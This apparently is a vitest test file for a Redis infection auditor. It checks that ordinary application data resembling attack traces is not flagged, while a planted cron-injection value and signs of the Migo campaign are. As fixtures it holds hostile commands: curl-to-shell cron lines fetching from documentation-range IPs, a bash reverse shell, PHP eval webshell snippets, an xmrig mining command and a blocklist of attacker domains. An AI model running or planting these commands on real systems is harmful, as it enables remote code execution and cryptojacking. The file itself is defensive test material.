import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditKnowledge } from '../src/audit/audit-server.ts';
import { createLearntIndex } from '../src/audit/infection/learnt.ts';
import { loadVulnerabilities } from '../src/audit/vulnerable/vulnerability-data.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { packagedText } from '../src/platform/files.ts';
import { audit } from './peers/hostile-audit.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';

const { rules, campaigns } = loadKnowledge();
const knowledge: AuditKnowledge = {
  rules: createRuleMatcher(rules),
  campaigns,
  learnt: createLearntIndex([]),
  vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
};

let server: RealRedis;
beforeAll(async () => {
  server = await startRedis();
});
afterAll(() => server.stop());

const CRON = '*/5 * * * * root curl -fsSL http://203.0.113.9/b2f628/init.sh | sh';
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl ann';
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');

/** What software keeps in Redis that speaks of attacks, or of schedules and commands, and is none (key layouts as documented). */
const APPLICATIONS: readonly [string, (client: RealRedis['client']) => Promise<unknown>][] = [
  [
    'BullMQ',
    async (client) => {
      const data = JSON.stringify({ cmd: 'curl http://203.0.113.20/agent.sh | bash', host: '203.0.113.20' });
      await client.hset('bull:deploy:1', { name: 'deploy', data, stacktrace: `["Error: ${CRON}"]` });
      await client.rpush('bull:deploy:wait', '1');
      await client.zadd('bull:mail:repeat', 1, 'digest:::*/5 * * * *');
      await client.xadd('bull:deploy:events', '*', 'event', 'added', 'jobId', '1');
      await client.eval("return redis.call('get', KEYS[1])", 1, 'bull:deploy:id');
    },
  ],
  [
    'Sidekiq and Resque',
    async (client) => {
      const job = { class: 'ScriptJob', args: ['#!/bin/bash\ncurl -sSL http://203.0.113.20 | bash'] };
      await client.lpush('queue:default', JSON.stringify(job));
      await client.zadd('retry', 1, JSON.stringify(job));
      await client.hset('cron_job:ping', { cron: '*/5 * * * *', message: JSON.stringify(job) });
      await client.lpush('resque:gitlab:queue:pipeline', JSON.stringify(job));
    },
  ],
  [
    'Celery and RQ',
    async (client) => {
      const body = Buffer.from(JSON.stringify([[CRON], {}])).toString('base64');
      await client.lpush('celery', JSON.stringify({ body, properties: { body_encoding: 'base64' } }));
      await client.sadd('_kombu.binding.celery', bytes('celery\x06\x16\x06\x16celery'));
      await client.hset('rq:job:1', { data: deflateSync('x'), description: `ops.run('${CRON}')` });
    },
  ],
  [
    'WordPress and page caches',
    async (client) => {
      const post = `<p>Remove this: <?php @eval($_POST['x']); ?> and ${CRON}</p>`;
      await client.set('salt:1:posts:9', `O:7:"WP_Post":1:{s:12:"post_content";s:${post.length}:"${post}";}`);
      await client.set('page-hacked', `<!DOCTYPE html><html><pre>\n\n${CRON}\n\n</pre></html>`);
      await client.set('page-blank', `\n\n<!DOCTYPE html><html><pre>\n\n${CRON}\n\n</pre></html>`);
      await client.set('PHPREDIS_SESSION:abc', 'user|a:1:{s:3:"bio";s:20:"<?php eval($_GET[1])";}');
      await client.set(
        'laravel_cache:news',
        's:58:"Hackers want 0.5 BTC to restore your data, pay to the wallet";',
      );
    },
  ],
  [
    'sessions of Spring and Django',
    async (client) => {
      await client.hset(
        'spring:session:sessions:a',
        'user',
        bytes('\xac\xed\0\x05sr\0\x11java.util.HashMap'),
      );
      await client.set(':1:session', bytes('\x80\x04\x95\x10\0\0\0\0\0\0\0}\x94\x8c\x0asystem_name\x94'));
    },
  ],
  [
    'GitLab, runbooks and schedulers',
    async (client) => {
      await client.set(
        'gitlab:ci:trace:1:chunks:0',
        '$ curl -fsSL http://203.0.113.20/a | bash -\n$ chmod +x a && ./a\n',
      );
      await client.set('script:agent', 'curl -fsSL http://198.51.100.7/install.sh | sudo bash');
      await client.set('crontab:web1', '\n*/10 * * * * root curl -fsS http://198.51.100.7/ping | sh\n');
      await client.set('sched:job', '0 3 * * * root /usr/sbin/usermod -L olduser');
      await client.set('heartbeat', '*/5 * * * * curl -fsS https://ping.example.net/uuid');
      await client.set('build:cache:o', bytes('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0>\0'));
    },
  ],
  [
    'keys of a forge and of a bastion',
    async (client) => {
      await client.set('deploy-key', KEY);
      await client.set('bastion:authorized_keys:ann', `# managed\n${KEY}\n`);
      await client.hset('teleport:keys', 'ann', `\n${KEY}\n`);
    },
  ],
  [
    'logs, firewalls and honeypots',
    async (client) => {
      await client.lpush('logstash', JSON.stringify({ command: `set backup1 "\n\n${CRON}\n\n"` }));
      await client.lpush('nginx', `203.0.113.9 - "GET /?cd+/tmp;wget+http://203.0.113.9/m;sh+m" 404`, CRON);
      await client.xadd(
        'audit',
        '*',
        'cmd',
        'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
        'verdict',
        'blocked',
      );
      await client.hset(
        'threatintel:ioc',
        'a',
        'xmrig -o stratum+tcp://pool.example.invalid:3333 -u 4xW -p x',
      );
      await client.sadd('blocklist', 'teamtnt.red', 'http://a.powerofwish.com/pm.sh');
    },
  ],
  [
    'shops and newsletters',
    async (client) => {
      await client.set(
        'order:7:pay',
        'Please send 0.015 BTC to the wallet. Your data is encrypted in transit.',
      );
      await client.set('faq:backup', 'Your database is backed up every night. We accept 0.01 BTC.');
      await client.set(
        'mail:welcome',
        '\n\nHello,\n\ninstall it with curl -fsSL https://get.example.net | sh\n\n',
      );
    },
  ],
  [
    'operators',
    async (client) => {
      await client.config('SET', 'stop-writes-on-bgsave-error', 'no');
      await client.config('SET', 'rdbcompression', 'no');
      await client.replicaof('10.0.0.7', 6_379);
      await client.replicaof('NO', 'ONE');
    },
  ],
];

describe('a healthy server that holds what attacks look like', () => {
  test.for(APPLICATIONS)('%s: not infected', async ([, populate]) => {
    await server.client.flushall();
    await server.client.config('RESETSTAT');
    await populate(server.client);

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge });

    expect(report.axes.infected).toMatchObject({ answer: 'no' });
    expect(report.counts.maliciousValues).toBe(0);
    expect(worstInfected(report)).toEqual([]);
  });

  test('but the same line as an attack leaves it is found among them', async () => {
    for (const [, populate] of APPLICATIONS) await populate(server.client);
    await server.client.rpush('jobs', `\n\n${CRON}\n\n`);
    await server.client.set('x1', CRON);

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts.maliciousValues).toBe(2);
  });

  test('three weak signs of one campaign together decide, two do not', async () => {
    await server.client.flushall();
    await server.client.config('SET', 'aof-rewrite-incremental-fsync', 'no');
    await server.client.config('SET', 'rdb-save-incremental-fsync', 'no');
    const two = await audit(`127.0.0.1:${server.port}`, { knowledge });
    await server.client.set('mimigo', 'x');
    const three = await audit(`127.0.0.1:${server.port}`, { knowledge });

    expect(two.axes.infected.answer).toBe('no');
    expect(three.axes.infected.because).toContain('signs of the campaign Migo');
    expect(three.axes.infected.answer).toBe('yes');
  });
});

/** Findings of the axis that would wake somebody. */
function worstInfected({ findings }: AuditReport): string[] {
  return findings.flatMap(({ axis, severity, rule }) =>
    axis === 'infected' && severity !== 'low' && severity !== 'info' ? [rule] : [],
  );
}
